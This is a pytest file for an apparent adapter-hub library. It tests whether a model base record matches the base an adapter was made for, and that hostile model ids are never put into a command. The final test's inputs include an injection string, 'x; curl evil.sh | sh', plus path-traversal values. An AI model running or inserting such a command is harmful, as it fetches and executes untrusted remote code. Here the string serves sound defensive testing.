"""Whether a base is the one an adapter was made for: one table for every caller."""

from __future__ import annotations

from dataclasses import replace

import pytest

from adapterhub.domain.base import Fingerprint
from adapterhub.domain.manifest import BaseRecord
from adapterhub.domain.match import match_records, source_of
from adapterhub.domain.quantization import scheme_by_name

PRINT = Fingerprint(layout="l" * 64, sketch="s" * 64, content="c" * 64, tokenizer="t" * 64)
MADE_FOR = BaseRecord(id="acme/phi", revision="a" * 40, fingerprint=PRINT)
TUNED = replace(PRINT, content="d" * 64)
OTHER = replace(TUNED, sketch="x" * 64)


@pytest.mark.parametrize(
    ("base", "verdict", "fits"),
    [
        (MADE_FOR, "same", True),
        (replace(MADE_FOR, id="elsewhere/phi", revision=None), "same", True),
        (replace(MADE_FOR, revision=None, fingerprint=TUNED), "probable", True),
        (replace(MADE_FOR, revision="b" * 40, fingerprint=TUNED), "probable", False),
        (replace(MADE_FOR, id="acme/phi-tuned", fingerprint=TUNED), "probable", False),
        (replace(MADE_FOR, fingerprint=OTHER), "other", False),
        (replace(MADE_FOR, fingerprint=None), "by name", True),
        (replace(MADE_FOR, id="ACME/Phi", fingerprint=None), "by name", True),
        (replace(MADE_FOR, revision="main", fingerprint=None), "by name", True),
        (replace(MADE_FOR, revision="b" * 40, fingerprint=None), "other", False),
        (replace(MADE_FOR, id="acme/qwen", fingerprint=None), "other", False),
    ],
)
def test_bytes_then_norms_and_name_then_name_and_commit(
    base: BaseRecord, verdict: str, fits: bool
) -> None:
    for found in (match_records(MADE_FOR, base), match_records(base, MADE_FOR)):
        assert (found.verdict, found.fits) == (verdict, fits)
        assert bool(found.reason) != fits


def test_what_differs_without_making_another_base_is_told() -> None:
    trained = replace(MADE_FOR, scheme=scheme_by_name("nf4"))
    print_ = replace(PRINT, tokenizer="u" * 64, chat_template="v" * 64)
    base = replace(MADE_FOR, scheme=scheme_by_name("bf16"), fingerprint=print_)
    found = match_records(trained, base)
    assert found.fits
    assert len(found.differences) == 3
    assert "trained on nf4" in found.differences[0]
    assert match_records(trained, trained).differences == ()


@pytest.mark.parametrize(
    "hostile", ["/etc", "tiny", "x; curl evil.sh | sh", "../a/b", "-rf/x", "a/b/c", "a/b\n", "é/b"]
)
def test_no_place_or_word_of_a_stranger_is_put_into_a_command(hostile: str) -> None:
    assert source_of(BaseRecord(id=hostile)) == "SOURCE"
    assert source_of(BaseRecord(id="microsoft/Phi-3.5-mini")) == "microsoft/Phi-3.5-mini"
